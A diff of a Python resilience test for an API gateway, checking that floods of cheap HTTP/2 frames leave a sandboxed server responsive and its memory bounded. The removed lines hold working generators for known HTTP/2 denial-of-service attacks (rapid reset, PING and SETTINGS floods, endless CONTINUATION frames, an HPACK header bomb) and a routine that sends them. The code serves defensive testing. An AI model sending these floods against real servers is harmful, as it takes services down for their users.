@@ -1,108 +1,20 @@
-"""Floods of HTTP/2 frames that cost their sender nothing: H5.
-
-The frames are written by hand, because a proper library refuses to send them.
-"""
+"""Floods of HTTP/2 frames that cost their sender nothing: H5."""
 
 from __future__ import annotations
 
-import ssl
-from collections.abc import Callable, Iterator
-
 import pytest
-from hpack import Encoder
 
-from harness import ApiUser, Endpoint, Gate, GateFactory
-from harness.billogram import CUSTOMERS, assert_ok
+from floods.frames import FLOODS, PROBE, send_flood
+from harness import Gate, GateFactory
+from harness.billogram import assert_ok
 
-PROBE = f"{CUSTOMERS}?page=1"
-FRAMES = 20_000
 GROWTH_BYTES = 64 * 1024 * 1024
-PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-SEND_SECONDS = 5.0
-
-DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
-END_STREAM, END_HEADERS = 0x1, 0x4
-
-Flood = Callable[[Endpoint, ApiUser], Iterator[bytes]]
-
-
-def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
-    """Return one frame (RFC 9113, section 4.1)."""
-    head = len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
-    return head + payload
-
-
-def request_block(endpoint: Endpoint, caller: ApiUser, method: str = "GET") -> bytes:
-    """Return a header block without dynamic table, so that it can be sent any number of times."""
-    encoder = Encoder()
-    encoder.header_table_size = 0
-    name, value = caller.authorization
-    fields = [
-        (":method", method),
-        (":scheme", "https"),
-        (":authority", endpoint.authority),
-        (":path", PROBE),
-        (name.lower(), value),
-    ]
-    return encoder.encode(fields)
-
-
-def rapid_reset(endpoint: Endpoint, caller: ApiUser) -> Iterator[bytes]:
-    """Open streams and give each up at once (CVE-2023-44487)."""
-    block = request_block(endpoint, caller)
-    for number in range(1, FRAMES, 2):
-        yield frame(HEADERS, END_STREAM | END_HEADERS, number, block)
-        yield frame(RST_STREAM, 0, number, (8).to_bytes(4, "big"))
-
-
-def pings(_: Endpoint, __: ApiUser) -> Iterator[bytes]:
-    """Ask for acknowledgements that are never read (CVE-2019-9512)."""
-    return (frame(PING, 0, 0, bytes(8)) for _ in range(FRAMES))
-
-
-def settings(_: Endpoint, __: ApiUser) -> Iterator[bytes]:
-    """Change the settings again and again; each change must be acknowledged (CVE-2019-9515)."""
-    return (frame(SETTINGS, 0, 0, b"\x00\x04\x00\x01\x00\x00") for _ in range(FRAMES))
-
-
-def empty_data(endpoint: Endpoint, caller: ApiUser) -> Iterator[bytes]:
-    """Send frames without content that never end their stream (CVE-2019-9518)."""
-    yield frame(HEADERS, END_HEADERS, 1, request_block(endpoint, caller, "POST"))
-    yield from [frame(DATA, 0, 1, b"")] * FRAMES
-
-
-def continuations(_: Endpoint, __: ApiUser) -> Iterator[bytes]:
-    """Never end a header block (CVE-2024-27316)."""
-    yield frame(HEADERS, END_STREAM, 1, b"\x82")
-    yield from [frame(CONTINUATION, 0, 1, b"\x82" * 256)] * FRAMES
-
-
-def header_bomb(endpoint: Endpoint, caller: ApiUser) -> Iterator[bytes]:
-    """Put one large field into the dynamic table and name it thousands of times (CVE-2016-6581)."""
-    large = b"\x40\x01x" + b"\x7f\xa1\x1e" + b"a" * 4000
-    bomb = request_block(endpoint, caller) + large + b"\xbe" * 12_000
-    for number in range(1, 41, 2):
-        yield frame(HEADERS, END_STREAM | END_HEADERS, number, bomb)
-
-
-def send_flood(endpoint: Endpoint, frames: Iterator[bytes]) -> None:
-    """Send the frames without reading; the server may stop reading or end the connection."""
-    with endpoint.open(SEND_SECONDS, alpn=("h2",)) as connection:
-        assert isinstance(connection, ssl.SSLSocket) and connection.selected_alpn_protocol() == "h2"
-        try:
-            connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
-            for one in frames:
-                connection.sendall(one)
-        except OSError:
-            return
 
 
 @pytest.mark.row("H5")
-@pytest.mark.parametrize(
-    "flood", [rapid_reset, pings, settings, empty_data, continuations, header_bomb]
-)
+@pytest.mark.parametrize("name", FLOODS)
 def test_a_flood_of_cheap_frames_harms_neither_memory_nor_other_callers(
-    new_gate: GateFactory, flood: Flood
+    new_gate: GateFactory, name: str
 ) -> None:
     """Afterwards the server answers at once, and its memory has not run away (printed)."""
     gate: Gate = new_gate()
@@ -110,8 +22,8 @@ def test_a_flood_of_cheap_frames_harms_neither_memory_nor_other_callers(
     caller = gate.create_user("demo")
     assert_ok(gate.ask(gate.sandbox, "GET", PROBE, caller.authorization))
     before = gate.resident_bytes()
-    send_flood(gate.sandbox, flood(gate.sandbox, caller))
+    send_flood(gate.sandbox, FLOODS[name](gate.sandbox, caller))
     assert_ok(gate.ask(gate.sandbox, "GET", PROBE, caller.authorization))
     growth = gate.resident_bytes() - before
-    print(f"{flood.__name__}: resident memory grew by {growth / 1024:.0f} KiB")
+    print(f"{name}: resident memory grew by {growth / 1024:.0f} KiB")
     assert growth < GROWTH_BYTES
